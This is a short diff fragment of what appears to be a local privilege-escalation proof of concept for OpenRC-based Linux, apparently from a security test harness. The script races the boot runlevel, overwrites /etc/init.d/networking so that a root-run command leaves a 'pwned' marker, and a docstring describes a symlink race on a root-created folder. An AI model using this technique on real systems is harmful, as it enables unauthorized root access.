@@ -115,6 +115,7 @@ while [ "${level:-boot}" = boot ] && [ $n -lt 600000 ]; do # for a moment there 
 	printf '#!/sbin/openrc-run\nstart() { id >/workspace/pwned; }\n' >/etc/init.d/networking
 	echo won; break
 done
+level=$(cat /run/openrc/softlevel) # read takes single bytes, half of them from before a change
 echo "at the end: $level, $(cat /tmp/ssh-mine/agent), $(stat -c '%U %a' /tmp/.ICE-unix /tmp/.X11-unix | tr '\n' ' ')"
 """
 """A file of root's under a second name, put where root is about to make a folder and open it up for everybody."""
